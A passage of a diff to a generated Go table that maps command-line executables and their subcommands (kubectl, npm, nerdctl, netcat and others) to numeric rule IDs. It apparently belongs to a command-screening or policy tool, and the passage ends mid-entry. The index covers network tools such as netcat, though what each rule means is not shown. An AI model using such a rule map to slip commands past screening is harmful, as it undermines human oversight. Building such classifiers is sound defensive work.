[]uint32{0x5000f, 0x50012, 0x1a001b}}, {"repo", []uint32{0x50004, 0x5000f, 0x50012}}, {"ruleset", []uint32{0x5000f}}, {"run", []uint32{0x5000f}}, {"search", []uint32{0x5000f}}, {"secret", []uint32{0x5000f}}, {"snippet", []uint32{0x5000f}}, {"ssh-key", []uint32{0x5000f}}, {"status", []uint32{0x5000f}}, {"sync", []uint32{0x1a001b}}, {"variable", []uint32{0x5000f}}, {"workflow", []uint32{0x5000f}}}, ruleKnown: true},
 	{name: "hyperfine", grammar: []uint32{0x18000b}, generic: []uint32{0xd0025, 0x18000b}, subs: nil, ruleKnown: true},
 	{name: "ibmcloud", grammar: nil, generic: []uint32{0x10012}, subs: nil, ruleKnown: true},
 	{name: "iconv", grammar: []uint32{0x23000d}, generic: []uint32{0x23000d}, subs: nil, ruleKnown: false},
@@ -2362,7 +2373,7 @@ var generatedExeIndex = []genExe{
 	{name: "kubectl", grammar: []uint32{0x90000, 0x140000}, generic: []uint32{0x140000}, subs: []genSub{{"annotate", []uint32{0x90014, 0x140014}}, {"api-resources", []uint32{0x90010, 0x140005}}, {"api-versions", []uint32{0x90010, 0x140005}}, {"apply", []uint32{0x90008, 0x90009, 0x90014, 0x140014}}, {"attach", []uint32{0x9000b, 0x140010}}, {"auth", []uint32{0x90012, 0x140006}}, {"autoscale", []uint32{0x90014, 0x140014}}, {"certificate", []uint32{0x90014, 0x140014}}, {"cluster-info", []uint32{0x90010, 0x140005, 0x140009}}, {"completion", []uint32{0x90010, 0x14000e}}, {"config", []uint32{0x90011, 0x90014, 0x14000a, 0x14000b, 0x14000c}}, {"cordon", []uint32{0x90006, 0x140014}}, {"cp", []uint32{0x90014, 0x140011}}, {"create", []uint32{0x90014, 0x140014}}, {"debug", []uint32{0x9000b, 0x140010}}, {"delete", []uint32{0x90003, 0x90004, 0x90005, 0x140014}}, {"describe", []uint32{0x9000a, 0x90010, 0x140003}}, {"diff", []uint32{0x90010, 0x140007}}, {"drain", []uint32{0x90006, 0x140014}}, {"edit", []uint32{0x90014, 0x140014}}, {"events", []uint32{0x90010, 0x140005}}, {"exec", []uint32{0x9000b, 0x140010}}, {"explain", []uint32{0x90010, 0x140005}}, {"expose", []uint32{0x90014, 0x140014}}, {"get", []uint32{0x9000a, 0x90010, 0x140001, 0x140002}}, {"kustomize", []uint32{0x90010, 0x14000f}}, {"label", []uint32{0x90014, 0x140014}}, {"logs", []uint32{0x90010, 0x140004}}, {"patch", []uint32{0x90014, 0x140014}}, {"plugin", []uint32{0x90010, 0x14000d}}, {"port-forward", []uint32{0x90014, 0x140012}}, {"proxy", []uint32{0x90014, 0x140013}}, {"replace", []uint32{0x90009, 0x140014}}, {"rollout", []uint32{0x90013, 0x90014, 0x140008, 0x140015}}, {"run", []uint32{0x9000b, 0x140010}}, {"scale", []uint32{0x90007, 0x140014}}, {"set", []uint32{0x90014, 0x140014}}, {"taint", []uint32{0x90006, 0x140014}}, {"top", []uint32{0x90010, 0x140005}}, {"uncordon", []uint32{0x90014, 0x140014}}, {"version", []uint32{0x90010, 0x140005}}, {"wait", []uint32{0x90010, 0x140007}}, {"whoami", []uint32{0x90010}}}, ruleKnown: true},
 	{name: "kubectx", grammar: []uint32{0x14001b, 0x14001c}, generic: []uint32{0x90018, 0x14001b, 0x14001c}, subs: nil, ruleKnown: true},
 	{name: "kubens", grammar: []uint32{0x14001d, 0x14001e}, generic: []uint32{0x90018, 0x14001d, 0x14001e}, subs: nil, ruleKnown: true},
-	{name: "kustomize", grammar: []uint32{0x14002e}, generic: []uint32{0x14002e}, subs: []genSub{{"build", []uint32{0x90017, 0x14002f}}, {"cfg", []uint32{0x90017, 0x140031}}, {"version", []uint32{0x90017, 0x140030}}}, ruleKnown: true},
+	{name: "kustomize", grammar: []uint32{0x140030}, generic: []uint32{0x140030}, subs: []genSub{{"build", []uint32{0x90017, 0x140031}}, {"cfg", []uint32{0x90017, 0x140033}}, {"version", []uint32{0x90017, 0x140032}}}, ruleKnown: true},
 	{name: "la", grammar: []uint32{0x150005}, generic: []uint32{0xd0016, 0x150005}, subs: nil, ruleKnown: true},
 	{name: "last", grammar: []uint32{0x22001a}, generic: []uint32{0xd0016, 0x22001a}, subs: nil, ruleKnown: true},
 	{name: "lastb", grammar: []uint32{0x22001a}, generic: []uint32{0x22001a}, subs: nil, ruleKnown: false},
@@ -2419,7 +2430,7 @@ var generatedExeIndex = []genExe{
 	{name: "m4", grammar: []uint32{0x1d0008}, generic: []uint32{0x1d0008}, subs: nil, ruleKnown: false},
 	{name: "mail", grammar: []uint32{0x1d0009}, generic: []uint32{0x1d0009}, subs: nil, ruleKnown: false},
 	{name: "make", grammar: []uint32{0xd0010, 0x240041}, generic: []uint32{0xd0024, 0x240041}, subs: nil, ruleKnown: true},
-	{name: "mamba", grammar: []uint32{0x1f0044}, generic: []uint32{0xa000e, 0x1f0044}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"activate", []uint32{0x1f0048}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019, 0x1f0048}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f0048}}, {"compare", []uint32{0x1f0048}}, {"config", []uint32{0xa0019, 0x1f0047}}, {"create", []uint32{0xa001a, 0x1f0048}}, {"deactivate", []uint32{0x1f0048}}, {"debug", []uint32{0xa0019}}, {"develop", []uint32{0x1f0048}}, {"doctor", []uint32{0x1f0045}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f0046, 0x1f0048}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019, 0x1f0045}}, {"init", []uint32{0xa001a, 0x1f0048}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f0048}}, {"list", []uint32{0xa0019, 0x1f0045}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"notices", []uint32{0x1f0048}}, {"package", []uint32{0x1f0048}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a, 0x1f0048}}, {"rename", []uint32{0x1f0048}}, {"repoquery", []uint32{0x1f0048}}, {"run", []uint32{0xa0019, 0x1f0048}}, {"search", []uint32{0xa0019, 0x1f0048}}, {"self-update", []uint32{0x1f0048}}, {"shell", []uint32{0xa0019, 0x1f0048}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tos", []uint32{0x1f0048}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f0048}}, {"update", []uint32{0xa001a, 0x1f0048}}, {"upgrade", []uint32{0xa001a, 0x1f0048}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
+	{name: "mamba", grammar: []uint32{0x1f0046}, generic: []uint32{0xa000e, 0x1f0046}, subs: []genSub{{"--version", []uint32{0xa0019}}, {"activate", []uint32{0x1f004a}}, {"add", []uint32{0xa0009, 0xa001a}}, {"build", []uint32{0xa0019, 0x1f004a}}, {"cache", []uint32{0xa0019}}, {"check", []uint32{0xa0019}}, {"clean", []uint32{0x1f004a}}, {"compare", []uint32{0x1f004a}}, {"config", []uint32{0xa0019, 0x1f0049}}, {"create", []uint32{0xa001a, 0x1f004a}}, {"deactivate", []uint32{0x1f004a}}, {"debug", []uint32{0xa0019}}, {"develop", []uint32{0x1f004a}}, {"doctor", []uint32{0x1f0047}}, {"download", []uint32{0xa001a}}, {"env", []uint32{0xa0019, 0x1f0048, 0x1f004a}}, {"export", []uint32{0xa0019}}, {"freeze", []uint32{0xa0019}}, {"help", []uint32{0xa0019}}, {"index", []uint32{0xa0019}}, {"info", []uint32{0xa0019, 0x1f0047}}, {"init", []uint32{0xa001a, 0x1f004a}}, {"inspect", []uint32{0xa0019}}, {"install", []uint32{0xa0009, 0xa001a, 0x1f004a}}, {"list", []uint32{0xa0019, 0x1f0047}}, {"lock", []uint32{0xa0019}}, {"new", []uint32{0xa001a}}, {"notices", []uint32{0x1f004a}}, {"package", []uint32{0x1f004a}}, {"pip", []uint32{0xa001a}}, {"remove", []uint32{0xa001a, 0x1f004a}}, {"rename", []uint32{0x1f004a}}, {"repoquery", []uint32{0x1f004a}}, {"run", []uint32{0xa0019, 0x1f004a}}, {"search", []uint32{0xa0019, 0x1f004a}}, {"self-update", []uint32{0x1f004a}}, {"shell", []uint32{0xa0019, 0x1f004a}}, {"show", []uint32{0xa0019}}, {"sync", []uint32{0xa0019}}, {"tos", []uint32{0x1f004a}}, {"tree", []uint32{0xa0019}}, {"uninstall", []uint32{0xa001a, 0x1f004a}}, {"update", []uint32{0xa001a, 0x1f004a}}, {"upgrade", []uint32{0xa001a, 0x1f004a}}, {"venv", []uint32{0xa0019}}, {"version", []uint32{0xa0019}}, {"wheel", []uint32{0xa001a}}}, ruleKnown: true},
 	{name: "man", grammar: []uint32{0x200005}, generic: []uint32{0xd0016, 0x200005}, subs: nil, ruleKnown: true},
 	{name: "mariadb", grammar: []uint32{0x30002, 0x170001}, generic: []uint32{0x3000f, 0x30010, 0x30011, 0x30012, 0x30013, 0x3001f, 0x170001}, subs: nil, ruleKnown: true},
 	{name: "markdownlint", grammar: []uint32{0x240036}, generic: []uint32{0xd0025, 0x240036}, subs: nil, ruleKnown: true},
@@ -2490,9 +2501,9 @@ var generatedExeIndex = []genExe{
 	{name: "ncftp", grammar: []uint32{0x1d0016}, generic: []uint32{0x1d0016}, subs: nil, ruleKnown: false},
 	{name: "needrestart", grammar: []uint32{0x1d0017}, generic: []uint32{0x1d0017}, subs: nil, ruleKnown: false},
 	{name: "neofetch", grammar: []uint32{0x1d0018}, generic: []uint32{0x1d0018}, subs: nil, ruleKnown: false},
-	{name: "nerdctl", grammar: []uint32{0x140034}, generic: []uint32{0x140034}, subs: []genSub{{"attach", []uint32{0x20016, 0x14004f}}, {"build", []uint32{0x20016, 0x14004f}}, {"builder", []uint32{0x20005, 0x20015, 0x140041, 0x140050}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140041, 0x140050}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x20015, 0x20017, 0x140054}}, {"config", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140036, 0x14003a, 0x14003c, 0x14003e, 0x140050, 0x140058}}, {"context", []uint32{0x20009, 0x20015, 0x14003a, 0x140041, 0x140042}}, {"cp", []uint32{0x20016, 0x140057}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x14004e}}, {"diff", []uint32{0x20013, 0x14003d}}, {"events", []uint32{0x20013, 0x14003d}}, {"exec", []uint32{0x2000f, 0x14004f}}, {"export", []uint32{0x20016, 0x140059}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003d}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x140038, 0x14003a, 0x14003f, 0x140050, 0x140054}}, {"images", []uint32{0x20013, 0x140037}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003d}}, {"inspect", []uint32{0x20013, 0x140039}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005a}}, {"login", []uint32{0x20013, 0x140056}}, {"logout", []uint32{0x140056}}, {"logs", []uint32{0x20013, 0x14003b}}, {"machine", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"manifest", []uint32{0x20009, 0x20015, 0x140045}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"node", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"pod", []uint32{0x20005, 0x20015, 0x14003a, 0x14003c, 0x140041}}, {"port", []uint32{0x20013, 0x14003d}}, {"ps", []uint32{0x20013, 0x140035}}, {"pull", []uint32{0x20016, 0x140053}}, {"push", []uint32{0x20016, 0x140053}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x14004f}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x14004e}}, {"save", []uint32{0x20016, 0x140059}}, {"search", []uint32{0x20013, 0x140044}}, {"secret", []uint32{0x20009, 0x20015, 0x140041, 0x140043}}, {"service", []uint32{0x20009, 0x20015, 0x14003a, 0x140041}}, {"stack", []uint32{0x20009, 0x20015, 0x140041}}, {"start", []uint32{0x20016, 0x14004f}}, {"stats", []uint32{0x20013, 0x14003d}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140040}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003d}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003d}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003a, 0x140041}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
+	{name: "nerdctl", grammar: []uint32{0x140036}, generic: []uint32{0x140036}, subs: []genSub{{"attach", []uint32{0x20016, 0x140051}}, {"build", []uint32{0x20016, 0x140051}}, {"builder", []uint32{0x20005, 0x20015, 0x140043, 0x140052}}, {"buildx", []uint32{0x20005, 0x20015, 0x20017, 0x140043, 0x140052}}, {"commit", []uint32{0x20016}}, {"compose", []uint32{0x20015, 0x20017, 0x140056}}, {"config", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"container", []uint32{0x20005, 0x20006, 0x2000a, 0x2000f, 0x20010, 0x20011, 0x20012, 0x20015, 0x20017, 0x140038, 0x14003c, 0x14003e, 0x140040, 0x140052, 0x14005a}}, {"context", []uint32{0x20009, 0x20015, 0x14003c, 0x140043, 0x140044}}, {"cp", []uint32{0x20016, 0x140059}}, {"create", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x20016, 0x140050}}, {"diff", []uint32{0x20013, 0x14003f}}, {"events", []uint32{0x20013, 0x14003f}}, {"exec", []uint32{0x2000f, 0x140051}}, {"export", []uint32{0x20016, 0x14005b}}, {"help", []uint32{0x20013}}, {"history", []uint32{0x20013, 0x14003f}}, {"image", []uint32{0x20005, 0x20008, 0x20015, 0x20017, 0x14003a, 0x14003c, 0x140041, 0x140052, 0x140056}}, {"images", []uint32{0x20013, 0x140039}}, {"import", []uint32{0x20016}}, {"info", []uint32{0x20013, 0x14003f}}, {"inspect", []uint32{0x20013, 0x14003b}}, {"kill", []uint32{0x2000a}}, {"load", []uint32{0x20016, 0x14005c}}, {"login", []uint32{0x20013, 0x140058}}, {"logout", []uint32{0x140058}}, {"logs", []uint32{0x20013, 0x14003d}}, {"machine", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"manifest", []uint32{0x20009, 0x20015, 0x140047}}, {"network", []uint32{0x20005, 0x20009, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"node", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pause", []uint32{0x2000a}}, {"plugin", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"pod", []uint32{0x20005, 0x20015, 0x14003c, 0x14003e, 0x140043}}, {"port", []uint32{0x20013, 0x14003f}}, {"ps", []uint32{0x20013, 0x140037}}, {"pull", []uint32{0x20016, 0x140055}}, {"push", []uint32{0x20016, 0x140055}}, {"rename", []uint32{0x20016}}, {"restart", []uint32{0x20016, 0x140051}}, {"rm", []uint32{0x20006}}, {"rmi", []uint32{0x20007}}, {"run", []uint32{0x2000f, 0x20010, 0x20011, 0x20012, 0x140050}}, {"save", []uint32{0x20016, 0x14005b}}, {"search", []uint32{0x20013, 0x140046}}, {"secret", []uint32{0x20009, 0x20015, 0x140043, 0x140045}}, {"service", []uint32{0x20009, 0x20015, 0x14003c, 0x140043}}, {"stack", []uint32{0x20009, 0x20015, 0x140043}}, {"start", []uint32{0x20016, 0x140051}}, {"stats", []uint32{0x20013, 0x14003f}}, {"stop", []uint32{0x2000a}}, {"swarm", []uint32{0x20009}}, {"system", []uint32{0x20004, 0x20014, 0x140042}}, {"tag", []uint32{0x20016}}, {"top", []uint32{0x20013, 0x14003f}}, {"unpause", []uint32{0x20016}}, {"update", []uint32{0x20016}}, {"version", []uint32{0x20013, 0x14003f}}, {"volume", []uint32{0x20003, 0x20015, 0x20017, 0x14003c, 0x140043}}, {"wait", []uint32{0x20016}}}, ruleKnown: true},
 	{name: "netcat", grammar: []uint32{0xb0002, 0x1e0011}, generic: []uint32{0xb0010, 0xb0011, 0xe000a, 0xe000b, 0xe001e, 0x1e0011}, subs: nil, ruleKnown: true},
-	{name: "netlify", grammar: []uint32{0x13006b}, generic: []uint32{0x10012, 0x13006b}, subs: []genSub{{"api", []uint32{0x13006d}}, {"build", []uint32{0x13006f}}, {"deploy", []uint32{0x13006e}}, {"dev", []uint32{0x13006f}}, {"env:clone", []uint32{0x13006f}}, {"env:get", []uint32{0x13006c}}, {"env:import", []uint32{0x13006f}}, {"env:list", []uint32{0x13006c}}, {"env:set", []uint32{0x13006f}}, {"env:unset", []uint32{0x13006f}}, {"functions:build", []uint32{0x13006f}}, {"functions:invoke", []uint32{0x13006f}}, {"functions:list", []uint32{0x13006d}}, {"functions:serve", []uint32{0x13006f}}, {"init", []uint32{0x13006f}}, {"link", []uint32{0x13006f}}, {"login", []uint32{0x13006f}}, {"logout", []uint32{0x13006f}}, {"logs", []uint32{0x13006d}}, {"logs:deploy", []uint32{0x13006d}}, {"logs:function", []uint32{0x13006d}}, {"open", []uint32{0x13006f}}, {"serve", []uint32{0x13006f}}, {"sites:list", []uint32{0x13006d}}, {"status", []uint32{0x13006d}}, {"switch", []uint32{0x13006f}}, {"unlink", []uint32{0x13006f}}, {"watch", []uint32{0x13006d}}}, ruleKnown: true},
+	{name: "netlify", grammar: []uint32{0x130070}, generic: []uint32{0x10012, 0x130070}, subs: []genSub{{"api", []uint32{0x130072}}, {"build", []uint32{0x130074}}, {"deploy", []uint32{0x130073}}, {"dev", []uint32{0x130074}}, {"env:clone", []uint32{0x130074}}, {"env:get", []uint32{0x130071}}, {"env:import", []uint32{0x130074}}, {"env:list", []uint32{0x130071}}, {"env:set", []uint32{0x130074}}, {"env:unset", []uint32{0x130074}}, {"functions:build", []uint32{0x130074}}, {"functions:invoke", []uint32{0x130074}}, {"functions:list", []uint32{0x130072}}, {"functions:serve", []uint32{0x130074}}, {"init", []uint32{0x130074}}, {"link", []uint32{0x130074}}, {"login", []uint32{0x130074}}, {"logout", []uint32{0x130074}}, {"logs", []uint32{0x130072}}, {"logs:deploy", []uint32{0x130072}}, {"logs:function", []uint32{0x130072}}, {"open", []uint32{0x130074}}, {"serve", []uint32{0x130074}}, {"sites:list", []uint32{0x130072}}, {"status", []uint32{0x130072}}, {"switch", []uint32{0x130074}}, {"unlink", []uint32{0x130074}}, {"watch", []uint32{0x130072}}}, ruleKnown: true},
 	{name: "netstat", grammar: []uint32{0x22004f}, generic: []uint32{0xd0016, 0x22004f}, subs: nil, ruleKnown: true},
 	{name: "newfs", grammar: nil, generic: []uint32{0x10000b}, subs: nil, ruleKnown: true},
 	{name: "nft", grammar: []uint32{0x1d0019}, generic: []uint32{0x10002c, 0x1d0019}, subs: []genSub{{"describe", []uint32{0x1d001a}}, {"list", []uint32{0x1d001a}}, {"monitor", []uint32{0x1d001a}}}, ruleKnown: true},
@@ -2509,9 +2520,9 @@ var generatedExeIndex = []genExe{
 	{name: "nohup", grammar: []uint32{0x150041}, generic: []uint32{0x6000c, 0x150041}, subs: nil, ruleKnown: true},
 	{name: "nomad", grammar: nil, generic: []uint32{0x80012}, subs: nil, ruleKnown: true},
 	{name: "nox", grammar: []uint32{0x240038}, generic: []uint32{0xd0025, 0x240038}, subs: nil, ruleKnown: true},
-	{name: "npm", grammar: []uint32{0xa0000, 0x1f001f}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f001f}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"access", []uint32{0x1f0022}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f0023}}, {"add-user", []uint32{0x1f0022}}, {"adduser", []uint32{0x1f0022}}, {"audit", []uint32{0xa0011, 0x1f0022}}, {"author", []uint32{0x1f0022}}, {"bin", []uint32{0xa0011, 0x1f0020}}, {"bugs", []uint32{0x1f0022}}, {"build", []uint32{0xa0011}}, {"c", []uint32{0x1f0021, 0x1f0023}}, {"cache", []uint32{0xa0012, 0x1f0023}}, {"check", []uint32{0xa0011}}, {"ci", []uint32{0xa0012, 0x1f0023}}, {"cit", []uint32{0x1f0023}}, {"clean-install", []uint32{0x1f0023}}, {"completion", []uint32{0x1f0020}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f0021, 0x1f0023}}, {"create", []uint32{0x1f0023}}, {"ddp", []uint32{0x1f0023}}, {"dedupe", []uint32{0xa0012, 0x1f0023}}, {"deprecate", []uint32{0x1f0022}}, {"dev", []uint32{0xa0011}}, {"diff", []uint32{0x1f0022}}, {"dist-tag", []uint32{0x1f0022}}, {"dist-tags", []uint32{0x1f0022}}, {"docs", []uint32{0x1f0022}}, {"doctor", []uint32{0xa0011, 0x1f0022}}, {"edit", []uint32{0x1f0023}}, {"exec", []uint32{0x1f0023}}, {"explain", []uint32{0xa0011, 0x1f0020}}, {"explore", []uint32{0x1f0023}}, {"find", []uint32{0x1f0022}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011, 0x1f0020}}, {"help", []uint32{0xa0011, 0x1f0020}}, {"help-search", []uint32{0x1f0020}}, {"home", []uint32{0x1f0022}}, {"hook", []uint32{0x1f0022}}, {"i", []uint32{0xa0008, 0xa0012, 0x1f0023}}, {"ic", []uint32{0x1f0023}}, {"in", []uint32{0xa0008, 0x1f0023}}, {"info", []uint32{0xa0011, 0x1f0022}}, {"init", []uint32{0x1f0023}}, {"innit", []uint32{0x1f0023}}, {"ins", []uint32{0x1f0023}}, {"inst", []uint32{0x1f0023}}, {"insta", []uint32{0x1f0023}}, {"instal", []uint32{0x1f0023}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f0023}}, {"install-ci-test", []uint32{0x1f0023}}, {"install-clean", []uint32{0x1f0023}}, {"install-test", []uint32{0x1f0023}}, {"isnt", []uint32{0x1f0023}}, {"isnta", []uint32{0x1f0023}}, {"isntal", []uint32{0x1f0023}}, {"isntall", []uint32{0x1f0023}}, {"isntall-clean", []uint32{0x1f0023}}, {"issues", []uint32{0x1f0022}}, {"it", []uint32{0x1f0023}}, {"la", []uint32{0x1f0020}}, {"licenses", []uint32{0xa0011}}, {"link", []uint32{0xa0012, 0x1f0023}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f0020}}, {"ll", []uint32{0x1f0020}}, {"ln", []uint32{0x1f0023}}, {"login", []uint32{0x1f0022}}, {"logout", []uint32{0x1f0022}}, {"ls", []uint32{0xa0011, 0x1f0020}}, {"org", []uint32{0x1f0022}}, {"outdated", []uint32{0xa0011, 0x1f0022}}, {"owner", []uint32{0x1f0022}}, {"pack", []uint32{0xa0011, 0x1f0023}}, {"ping", []uint32{0x1f0022}}, {"pkg", []uint32{0x1f0023}}, {"prefix", []uint32{0xa0011, 0x1f0020}}, {"profile", []uint32{0x1f0022}}, {"prune", []uint32{0xa0012, 0x1f0023}}, {"publish", []uint32{0x1f0022}}, {"query", []uint32{0xa0011, 0x1f0020}}, {"r", []uint32{0x1f0023}}, {"rb", []uint32{0x1f0023}}, {"rebuild", []uint32{0xa0012, 0x1f0023}}, {"remove", []uint32{0xa0012, 0x1f0023}}, {"repo", []uint32{0x1f0022}}, {"restart", []uint32{0x1f0023}}, {"rm", []uint32{0xa0012, 0x1f0023}}, {"root", []uint32{0xa0011, 0x1f0020}}, {"rum", []uint32{0x1f0023}}, {"run", []uint32{0xa0011, 0x1f0023}}, {"run-script", []uint32{0xa0011, 0x1f0023}}, {"s", []uint32{0x1f0022}}, {"sbom", []uint32{0x1f0020}}, {"se", []uint32{0x1f0022}}, {"search", []uint32{0xa0011, 0x1f0022}}, {"set", []uint32{0xa0012, 0x1f0023}}, {"set-script", []uint32{0x1f0023}}, {"show", []uint32{0xa0011, 0x1f0022}}, {"shrinkwrap", []uint32{0x1f0023}}, {"star", []uint32{0x1f0022}}, {"stars", []uint32{0x1f0022}}, {"start", []uint32{0xa0011, 0x1f0023}}, {"stop", []uint32{0x1f0023}}, {"t", []uint32{0xa0011, 0x1f0023}}, {"team", []uint32{0x1f0022}}, {"test", []uint32{0xa0011, 0x1f0023}}, {"token", []uint32{0x1f0022}}, {"tst", []uint32{0xa0011, 0x1f0023}}, {"typecheck", []uint32{0xa0011}}, {"udpate", []uint32{0x1f0023}}, {"un", []uint32{0x1f0023}}, {"uninstall", []uint32{0xa0012, 0x1f0023}}, {"unlink", []uint32{0xa0012, 0x1f0023}}, {"unpublish", []uint32{0x1f0022}}, {"unstar", []uint32{0x1f0022}}, {"up", []uint32{0xa0012, 0x1f0023}}, {"update", []uint32{0xa0012, 0x1f0023}}, {"upgrade", []uint32{0xa0012, 0x1f0023}}, {"urn", []uint32{0x1f0023}}, {"v", []uint32{0xa0011, 0x1f0022}}, {"verison", []uint32{0x1f0023}}, {"version", []uint32{0xa0012, 0x1f0023}}, {"view", []uint32{0xa0011, 0x1f0022}}, {"whoami", []uint32{0x1f0022}}, {"why", []uint32{0xa0011, 0x1f0020}}, {"x", []uint32{0x1f0023}}}, ruleKnown: true},
+	{name: "npm", grammar: []uint32{0xa0000, 0x1f0020}, generic: []uint32{0xa0005, 0xa0007, 0xa0013, 0x1f0020}, subs: []genSub{{"--version", []uint32{0xa0011}}, {"-v", []uint32{0xa0011}}, {"access", []uint32{0x1f0023}}, {"add", []uint32{0xa0008, 0xa0012, 0x1f0025}}, {"add-user", []uint32{0x1f0023}}, {"adduser", []uint32{0x1f0023}}, {"audit", []uint32{0xa0011, 0x1f0023}}, {"author", []uint32{0x1f0023}}, {"bin", []uint32{0xa0011, 0x1f0021}}, {"bugs", []uint32{0x1f0023}}, {"build", []uint32{0xa0011}}, {"c", []uint32{0x1f0022, 0x1f0025}}, {"cache", []uint32{0xa0012, 0x1f0025}}, {"check", []uint32{0xa0011}}, {"ci", []uint32{0xa0012, 0x1f0025}}, {"cit", []uint32{0x1f0025}}, {"clean-install", []uint32{0x1f0025}}, {"completion", []uint32{0x1f0021}}, {"config", []uint32{0xa0010, 0xa0012, 0x1f0022, 0x1f0025}}, {"create", []uint32{0x1f0025}}, {"ddp", []uint32{0x1f0025}}, {"dedupe", []uint32{0xa0012, 0x1f0025}}, {"deprecate", []uint32{0x1f0023}}, {"dev", []uint32{0xa0011}}, {"diff", []uint32{0x1f0023}}, {"dist-tag", []uint32{0x1f0023}}, {"dist-tags", []uint32{0x1f0023}}, {"docs", []uint32{0x1f0023}}, {"doctor", []uint32{0xa0011, 0x1f0023}}, {"edit", []uint32{0x1f0025}}, {"exec", []uint32{0x1f0025}}, {"explain", []uint32{0xa0011, 0x1f0021}}, {"explore", []uint32{0x1f0025}}, {"find", []uint32{0x1f0024}}, {"format", []uint32{0xa0011}}, {"fund", []uint32{0xa0011, 0x1f0021}}, {"help", []uint32{0xa0011, 0x1f0021}}, {"help-search", []uint32{0x1f0021}}, {"home", []uint32{0x1f0023}}, {"hook", []uint32{0x1f0023}}, {"i", []uint32{0xa0008, 0xa0012, 0x1f0025}}, {"ic", []uint32{0x1f0025}}, {"in", []uint32{0xa0008, 0x1f0025}}, {"info", []uint32{0xa0011, 0x1f0024}}, {"init", []uint32{0x1f0025}}, {"innit", []uint32{0x1f0025}}, {"ins", []uint32{0x1f0025}}, {"inst", []uint32{0x1f0025}}, {"insta", []uint32{0x1f0025}}, {"instal", []uint32{0x1f0025}}, {"install", []uint32{0xa0008, 0xa0012, 0x1f0025}}, {"install-ci-test", []uint32{0x1f0025}}, {"install-clean", []uint32{0x1f0025}}, {"install-test", []uint32{0x1f0025}}, {"isnt", []uint32{0x1f0025}}, {"isnta", []uint32{0x1f0025}}, {"isntal", []uint32{0x1f0025}}, {"isntall", []uint32{0x1f0025}}, {"isntall-clean", []uint32{0x1f0025}}, {"issues", []uint32{0x1f0023}}, {"it", []uint32{0x1f0025}}, {"la", []uint32{0x1f0021}}, {"licenses", []uint32{0xa0011}}, {"link", []uint32{0xa0012, 0x1f0025}}, {"lint", []uint32{0xa0011}}, {"list", []uint32{0xa0011, 0x1f0021}}, {"ll", []uint32{0x1f0021}}, {"ln", []uint32{0x1f0025}}, {"login", []uint32{0x1f0023}}, {"logout", []uint32{0x1f0023}}, {"ls", []uint32{0xa0011, 0x1f0021}}, {"org", []uint32{0x1f0023}}, {"outdated", []uint32{0xa0011, 0x1f0024}}, {"owner", []uint32{0x1f0023}}, {"pack", []uint32{0xa0011, 0x1f0025}}, {"ping", []uint32{0x1f0024}}, {"pkg", []uint32{0x1f0025}}, {"prefix", []uint32{0xa0011, 0x1f0021}}, {"profile", []uint32{0x1f0023}}, {"prune", []uint32{0xa0012, 0x1f0025}}, {"publish", []uint32{0x1f0023}}, {"query", []uint32{0xa0011, 0x1f0021}}, {"r", []uint32{0x1f0025}}, {"rb", []uint32{0x1f0025}}, {"rebuild", []uint32{0xa0012, 0x1f0025}}, {"remove", []uint32{0xa0012, 0x1f0025}}, {"repo", []uint32{0x1f0023}}, {"restart", 